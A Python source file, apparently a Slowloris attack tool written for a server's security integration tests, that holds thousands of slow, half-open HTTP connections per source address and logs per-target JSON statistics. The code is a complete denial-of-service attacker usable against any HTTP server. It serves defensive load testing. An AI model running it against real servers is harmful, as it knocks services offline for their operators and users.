#!/usr/bin/env python3
"""Slowloris attacker for the security integration tests (tests/integration/security_*.sh).

Holds up to --conns half-open HTTP connections to every target from every source address
(--source, repeatable: 127.0.0.2, or a range 127.0.0.3-127.0.0.42) and keeps them busy: each
connection sends a request line and then one more header byte every --interval seconds, so an
idle timeout never fires (only a total deadline does). A connection the server closes is reopened
(at most --reopen-rate per second per source and target), as a real attacker would.

Every second it rewrites --status with one JSON object per "source->target":
  attempted   connections opened so far (connect() started)
  open        connections currently established from our side and not closed by the server
              (this includes connections still in the server's listen backlog)
  max_open    the largest value of `open` seen
  answered    connections the server answered with bytes (e.g. 503) before closing
  closed      connections the server closed (FIN or RST)
  failed      connect() failures
  max_life_s  the longest time a connection stayed open while we were still sending on it
"""
import argparse
import json
import os
import resource
import selectors
import socket
import sys
import time


class Target:
    def __init__(self, source, host, port):
        self.source = source
        self.addr = (host, port)
        self.name = f"{source}->{host}:{port}"
        self.conns = {}
        self.attempted = self.open = self.max_open = self.answered = self.closed = self.failed = 0
        self.max_life = 0.0
        self.reopen_budget = 0.0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", action="append", required=True, help="host:port (repeatable)")
    ap.add_argument("--source", action="append", required=True, help="address or a.b.c.x-a.b.c.y (repeatable)")
    ap.add_argument("--conns", type=int, default=2000, help="connections to hold per source and target")
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between header bytes")
    ap.add_argument("--duration", type=float, default=30.0)
    ap.add_argument("--reopen-rate", type=float, default=200.0, help="reopened connections per second per target")
    ap.add_argument("--status", required=True)
    a = ap.parse_args()

    sources = []
    for src in a.source:
        if "-" in src:
            lo, hi = src.split("-")
            base, first = lo.rsplit(".", 1)
            last = hi.rsplit(".", 1)[1]
            sources += [f"{base}.{i}" for i in range(int(first), int(last) + 1)]
        else:
            sources.append(src)
    need = a.conns * len(a.target) * len(sources) + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < need:
        sys.exit(f"slowloris: RLIMIT_NOFILE hard limit {hard} < {need} needed")
    if soft != resource.RLIM_INFINITY and soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (need, hard))

    targets = []
    for src in sources:
        for t in a.target:
            h, p = t.rsplit(":", 1)
            targets.append(Target(src, h, int(p)))
    sel = selectors.DefaultSelector()
    head = b"POST /v1/peer/bundle HTTP/1.1\r\nHost: tkms\r\nContent-Length: 10\r\n"
    trickle = b"X-Slow: 0123456789abcdef\r\n"

    def open_one(t):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((t.source, 0))
            s.connect_ex(t.addr)
        except OSError:
            t.failed += 1
            s.close()
            return
        t.attempted += 1
        c = {"t": t, "s": s, "state": "connecting", "since": time.monotonic(), "sent": 0, "next": 0.0}
        t.conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ, c)

    def drop(c, by_server, answered=False):
        t = c["t"]
        if c["state"] == "open":
            t.open -= 1
            t.max_life = max(t.max_life, time.monotonic() - c["since"])
        if by_server:
            t.closed += 1
        if answered:
            t.answered += 1
        try:
            sel.unregister(c["s"])
        except (KeyError, ValueError):
            pass
        t.conns.pop(c["s"].fileno(), None)
        c["s"].close()

    def send_more(c, now):
        s = c["s"]
        if c["sent"] < len(head):
            data = head[c["sent"]:]
        else:
            i = (c["sent"] - len(head)) % len(trickle)
            data = trickle[i:i + 1]
        try:
            n = s.send(data)
        except BlockingIOError:
            return
        except OSError:
            drop(c, True)
            return
        c["sent"] += n
        c["next"] = now + a.interval

    start = time.monotonic()
    last_status = 0.0
    last_tick = start
    while True:
        now = time.monotonic()
        if now - start >= a.duration:
            break
        dt = now - last_tick
        last_tick = now
        for t in targets:
            # initial ramp as fast as the kernel allows; afterwards reopen at a bounded rate
            t.reopen_budget = min(t.reopen_budget + dt * a.reopen_rate, a.reopen_rate)
            while len(t.conns) < a.conns and (t.attempted < a.conns or t.reopen_budget >= 1):
                if t.attempted >= a.conns:
                    t.reopen_budget -= 1
                open_one(t)
        for key, ev in sel.select(timeout=0.05):
            c = key.data
            s = c["s"]
            if c["state"] == "connecting":
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    c["t"].failed += 1
                    drop(c, False)
                    continue
                if ev & selectors.EVENT_WRITE:
                    c["state"] = "open"
                    c["since"] = now
                    c["t"].open += 1
                    c["t"].max_open = max(c["t"].max_open, c["t"].open)
                    sel.modify(s, selectors.EVENT_READ, c)
                    send_more(c, now)
                    continue
            if ev & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except (ConnectionResetError, OSError):
                    drop(c, True)
                    continue
                if not data:
                    drop(c, True)
                else:
                    drop(c, True, answered=True)
        for t in targets:
            for c in list(t.conns.values()):
                if c["state"] == "open" and now >= c["next"]:
                    send_more(c, now)
        if now - last_status >= 1.0:
            last_status = now
            write_status(a.status, targets, now)
    for t in targets:
        for c in list(t.conns.values()):
            if c["state"] == "open":
                t.max_life = max(t.max_life, time.monotonic() - c["since"])
    write_status(a.status, targets, time.monotonic())
    for t in targets:
        for c in list(t.conns.values()):
            c["s"].close()


def write_status(path, targets, now):
    for t in targets:
        live = [now - c["since"] for c in t.conns.values() if c["state"] == "open"]
        if live:
            t.max_life = max(t.max_life, max(live))
    out = {t.name: {"attempted": t.attempted, "open": t.open, "max_open": t.max_open, "answered": t.answered,
                    "closed": t.closed, "failed": t.failed, "max_life_s": round(t.max_life, 2)} for t in targets}
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        json.dump(out, f)
    os.replace(tmp, path)


if __name__ == "__main__":
    main()
